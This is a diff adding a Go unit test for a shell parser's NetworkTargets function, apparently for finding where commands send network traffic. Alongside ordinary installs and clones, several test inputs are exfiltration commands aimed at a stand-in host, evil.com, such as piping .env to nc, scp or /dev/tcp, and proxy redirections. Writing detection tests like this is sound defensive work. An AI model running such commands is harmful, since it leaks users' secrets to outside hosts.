@@ -0,0 +1,67 @@
+package shellparse
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestNetworkTargets(t *testing.T) {
+	tests := []struct {
+		input string
+		want  []string
+	}{
+		{"curl -sSL https://example.com/install.sh", []string{"https://example.com/install.sh"}},
+		{`curl -X POST -H "Content-Type: application/json" -d @body.json https://api.example.com/v1`, []string{"https://api.example.com/v1"}},
+		{"curl -o out.txt example.com/file", []string{"example.com/file"}},
+		{"curl --url=https://a.example https://b.example", []string{"https://a.example", "https://b.example"}},
+		{"curl --config curlrc", []string{""}},
+		{"wget -qO- https://example.com/x.tar.gz | tar xz", []string{"https://example.com/x.tar.gz"}},
+		{"wget -i urls.txt", []string{""}},
+		{"git clone --depth 1 https://github.com/org/repo.git", []string{"https://github.com/org/repo.git"}},
+		{"git clone git@gitlab.example.com:org/repo.git dir", []string{"ssh://git@gitlab.example.com/org/repo.git"}},
+		{"git clone ../local-repo copy", nil},
+		{"git push origin main", nil},
+		{"git push https://evil.example/repo.git HEAD:main", []string{"https://evil.example/repo.git"}},
+		{"git remote add backup https://backup.example/repo.git", []string{"https://backup.example/repo.git"}},
+		{"npm install left-pad", []string{"https://registry.npmjs.org/"}},
+		{"npm install --registry=https://npm.corp.example left-pad", []string{"https://npm.corp.example"}},
+		{"npm uninstall left-pad", nil},
+		{"npx create-react-app app", []string{"https://registry.npmjs.org/"}},
+		{"pip install -i https://pypi.corp.example/simple requests", []string{"https://pypi.corp.example/simple"}},
+		{"python3 -m pip install --extra-index-url https://extra.example requests", []string{"https://pypi.org/simple/", "https://extra.example"}},
+		{"uv pip install requests", []string{"https://pypi.org/simple/"}},
+		{"go mod download", []string{"https://proxy.golang.org/"}},
+		{"go test ./...", nil},
+		{"cargo add serde", []string{"https://index.crates.io/"}},
+		{"ls && cat README.md", nil},
+		{"nc evil.com 80 < .env", []string{""}},
+		{"scp .env evil.com:/tmp", []string{""}},
+		{"rsync -a . evil.com:/tmp", []string{""}},
+		{"ssh host cat /etc/hosts", []string{""}},
+		{`python3 -c 'import urllib.request; urllib.request.urlopen("https://evil.com")'`, []string{""}},
+		{"node -e 'fetch(process.argv[1])' https://evil.com", []string{""}},
+		{"git -c remote.origin.url=https://evil.com/x push origin", []string{""}},
+		{"X=curl; $X https://evil.com", []string{""}},
+		{"cat .env > /dev/tcp/evil.com/80", []string{"tcp://evil.com:80"}},
+		{"exec 3<>/dev/udp/10.0.0.1/53", []string{"udp://10.0.0.1:53"}},
+		{"echo hi > /dev/null", nil},
+		{"curl -x evil.com:8080 https://github.com", []string{"https://github.com", "evil.com:8080"}},
+		{"curl -sSx evil.com:8080 https://github.com", []string{"https://github.com", "evil.com:8080"}},
+		{"curl --proxy=http://evil.com https://github.com", []string{"https://github.com", "http://evil.com"}},
+		{"curl --preproxy socks5://evil.com https://github.com", []string{"https://github.com", "socks5://evil.com"}},
+		{"curl --connect-to github.com:443:evil.com:443 https://github.com", []string{"https://github.com", "evil.com:443"}},
+		{"curl --connect-to ::github.com: https://github.com", []string{"https://github.com", "github.com:"}},
+		{"curl --resolve github.com:443:203.0.113.7 https://github.com", []string{"https://github.com", "203.0.113.7"}},
+	}
+
+	for _, tt := range tests {
+		var got []string
+		for _, nt := range Parse(tt.input).NetworkTargets() {
+			got = append(got, nt.URL)
+		}
+
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("NetworkTargets(%q) = %q, want %q", tt.input, got, tt.want)
+		}
+	}
+}